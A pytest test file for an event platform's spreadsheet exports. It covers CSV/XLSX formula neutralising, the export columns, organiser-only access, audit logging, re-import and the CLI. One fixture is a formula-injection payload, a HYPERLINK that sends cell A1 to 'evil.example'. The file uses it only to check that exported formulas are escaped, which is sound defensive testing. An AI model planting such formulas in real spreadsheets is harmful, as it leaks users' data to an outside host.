"""Spreadsheet export: what each export holds, formula neutralising, re-importing an export, the CLI."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from events.demo.seed import DEMO_SLUG, DemoResult
from events.platform import i18n
from events.platform.db import open_session
from events.platform.errors import NotFoundError
from events.platform.models import (
    AuditEntry,
    Candidate,
    CandidateParticipation,
    EmployerContact,
    EmployerParticipation,
    Opening,
    Organisation,
    Preference,
    PreferenceSide,
)
from events.platform.services import find_event
from events.platform.settings import Settings
from events.platform.spreadsheets import neutralise, to_csv, to_xlsx
from events.registration.exports import export_rows
from events.registration.imports import apply_import, read_table
from events.registration.imports_fields import guess_mapping
from tests.cli import cli
from tests.conftest import ORGANISER, run
from tests.registration.test_imports import as_user, do_import, table, table_counts

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


async def export(settings: Settings, kind: str, *, user_email: str = ORGANISER) -> tuple[list[str], list[list[Any]]]:
    """Export ``kind`` of the demo event in English and commit (the audit entry)."""
    user = await as_user(settings, user_email)
    with i18n.language("en"):
        async with open_session(settings) as session:
            event = await find_event(session, DEMO_SLUG)
            result = await export_rows(session, user, event, kind)
            await session.commit()
            return result


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


# --- pure functions ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\0x", "'\0x"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("Jansen", "Jansen"),
        ("a=b", "a=b"),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_formula_starts_get_an_apostrophe(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_to_csv_bom_semicolons_and_quoting() -> None:
    data = to_csv(["Naam", "Notitie"], [["de Wit; Anna", 'zei "ja"\nen ging'], [FORMULA, 3], [None, ""]])

    assert data.startswith(b"\xef\xbb\xbfNaam;Notitie\r\n")
    assert read_csv(data) == [
        ["Naam", "Notitie"],
        ["de Wit; Anna", 'zei "ja"\nen ging'],
        ["'" + FORMULA, "3"],
        ["", ""],
    ]


def test_to_xlsx_formula_text_is_a_string_cell_never_a_formula() -> None:
    data = to_xlsx(["Naam", "Uren"], [[FORMULA, 32], ["＋1", None], ["bel\x07", 1.5]])

    sheet = load_workbook(io.BytesIO(data)).active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]

    assert cells == [
        [("'" + FORMULA, "s"), (32, "n")],
        [("'＋1", "s"), (None, "n")],
        [("bel", "s"), (1.5, "n")],
    ]


# --- what the exports hold ---------------------------------------------------------------------------


def test_export_candidates_one_line_each_without_sensitive_fields(demo: DemoResult, database: Settings) -> None:
    async def sensitive() -> set[str]:
        async with open_session(database) as session:
            rows = await session.execute(select(Candidate.target_group, Candidate.coach_note))
            return {value for row in rows for value in row if value}

    headers, rows = run(export(database, "candidates"))

    assert headers == ["First name", "Last name", "E-mail address", "Phone", "City", "Coach e-mail", "Status", "Rounds"]
    assert len(rows) == 50
    assert all(row[0] and row[1] for row in rows)
    assert not {str(cell) for row in rows for cell in row} & run(sensitive())


def test_export_formula_surname_neutralised_in_csv_and_xlsx(demo: DemoResult, database: Settings) -> None:
    run(do_import(database, "candidates", table(["Voornaam", "Achternaam"], ["Mal", FORMULA])))
    headers, rows = run(export(database, "candidates"))

    from_csv = read_csv(to_csv(headers, rows))
    sheet = load_workbook(io.BytesIO(to_xlsx(headers, rows))).active
    from_xlsx = [[(c.value, c.data_type) for c in row[:2]] for row in sheet.iter_rows(min_row=2)]

    assert [line[:2] for line in from_csv if line[0] == "Mal"] == [["Mal", "'" + FORMULA]]
    assert [line for line in from_xlsx if line[0][0] == "Mal"] == [[("Mal", "s"), ("'" + FORMULA, "s")]]


def test_export_preferences_hold_the_demo_levels_and_weights(demo: DemoResult, database: Settings) -> None:
    async def stored_levels() -> dict[tuple[str, str, str], int]:
        async with open_session(database) as session:
            rows = await session.execute(
                select(Candidate.email, Candidate.first_name, Organisation.name, Preference.side, Preference.level)
                .join(CandidateParticipation, CandidateParticipation.id == Preference.candidate_participation_id)
                .join(Candidate, Candidate.id == CandidateParticipation.candidate_id)
                .join(EmployerParticipation, EmployerParticipation.id == Preference.employer_participation_id)
                .join(Organisation, Organisation.id == EmployerParticipation.organisation_id)
                .where(CandidateParticipation.event_id == demo.event_id)  # the exported event's, not BAKboord's
            )
            return {(email or first, employer, side.value): level for email, first, employer, side, level in rows}

    headers, rows = run(export(database, "preferences"))
    levels = run(stored_levels())
    exported: dict[tuple[str, str, str], int] = {}
    for name, email, employer, candidate_level, employer_level, _match, _weight in rows:
        who = email or name.split(" ")[0]
        if candidate_level != "":
            exported[(who, employer, PreferenceSide.CANDIDATE.value)] = candidate_level
        if employer_level != "":
            exported[(who, employer, PreferenceSide.EMPLOYER.value)] = employer_level
    weights: dict[tuple[Any, Any, str], set[Any]] = {}
    for row in rows:
        weights.setdefault((row[3], row[4], row[5]), set()).add(row[6])

    assert headers == [
        "Candidate",
        "E-mail address",
        "Employer",
        "Candidate's level",
        "Employer's level",
        "Sector match",
        "Weight",
    ]
    assert len(rows) == 50 * 8
    assert exported == levels
    # 3 * f(3) + 2 * f(2) + 1 = 3 * 7 + 2 * 4 + 1 (schedule/weights.py); a "no" from either side lists no pair.
    assert weights[(3, 2, "yes")] == {30}
    assert weights[(1, "", "no")] == {8}
    assert weights[("", "", "no")] == {""}
    assert {row[6] for row in rows if 0 in (row[3], row[4])} == {""}


@pytest.mark.parametrize("kind", ["candidates", "employers", "preferences"])
@pytest.mark.parametrize("email", ["coach@demo.meetmatch.nl", "groen@demo.meetmatch.nl", "ingang@demo.meetmatch.nl"])
def test_export_non_organiser_refused(demo: DemoResult, database: Settings, kind: str, email: str) -> None:
    with pytest.raises(NotFoundError):
        run(export(database, kind, user_email=email))


def test_export_writes_one_audit_entry(demo: DemoResult, database: Settings) -> None:
    run(export(database, "candidates"))

    async def entries() -> list[dict[str, Any]]:
        async with open_session(database) as session:
            return [e.detail for e in await session.scalars(select(AuditEntry).where(AuditEntry.action == "export"))]

    assert run(entries()) == [{"kind": "candidates", "rows": 50}]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_employers_reimported_without_duplicates(demo: DemoResult, database: Settings, suffix: str) -> None:
    async def employer_counts() -> tuple[int, ...]:
        async with open_session(database) as session:
            counted = []
            for model in (Organisation, EmployerParticipation, EmployerContact, Opening):
                counted.append(int(await session.scalar(select(func.count()).select_from(model)) or 0))
            return tuple(counted)

    headers, rows = run(export(database, "employers"))
    data = to_csv(headers, rows) if suffix == ".csv" else to_xlsx(headers, rows)
    before = run(employer_counts())

    async def reimport() -> Any:
        user = await as_user(database, ORGANISER)
        async with open_session(database) as session:
            event = await find_event(session, DEMO_SLUG)
            parsed = read_table(data, "werkgevers" + suffix)
            result = await apply_import(session, user, event, "employers", parsed, guess_mapping("employers", headers))
            await session.commit()
            return result

    result = run(reimport())

    assert len(rows) == 12
    assert (result.rows, result.created, result.matched, result.updated) == (12, 0, 8, 0)
    assert result.details == {
        "participations_created": 0,
        "contacts_created": 0,
        "openings_created": 0,
        "openings_updated": 0,
    }
    assert run(employer_counts()) == before


def test_export_candidates_reimported_matches_everyone(demo: DemoResult, database: Settings) -> None:
    headers, rows = run(export(database, "candidates"))
    data = read_table(to_csv(headers, rows), "kandidaten.csv")
    before = run(table_counts(database))

    result = run(do_import(database, "candidates", data))

    assert (result.created, result.matched, result.updated) == (0, 50, 0)
    assert result.details["participations_updated"] == 0
    assert {k: v for k, v in run(table_counts(database)).items() if k != "audit_entry"} == {
        k: v for k, v in before.items() if k != "audit_entry"
    }


# --- the command line --------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_export_writes_the_file_of_its_suffix(settings: Settings, tmp_path: Path, suffix: str) -> None:
    assert cli(settings, "demo").returncode == 0
    path = tmp_path / f"werkgevers{suffix}"

    result = cli(settings, "export", DEMO_SLUG, "employers", "-o", str(path))

    parsed = read_table(path.read_bytes(), path.name)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"wrote 12 rows to {path}"
    assert parsed.headers[:3] == ["Werkgever", "Tafels", "Plaatsen per tafel"]
    assert len(parsed.rows) == 12


def test_cli_export_unknown_suffix_is_refused(settings: Settings, tmp_path: Path) -> None:
    assert cli(settings, "demo").returncode == 0
    path = tmp_path / "kandidaten.pdf"

    result = cli(settings, "export", DEMO_SLUG, "candidates", "-o", str(path))

    assert result.returncode == 2
    assert result.stderr.strip() == "error: kandidaten.pdf: choose a file name ending in .csv or .xlsx"
    assert not path.exists()
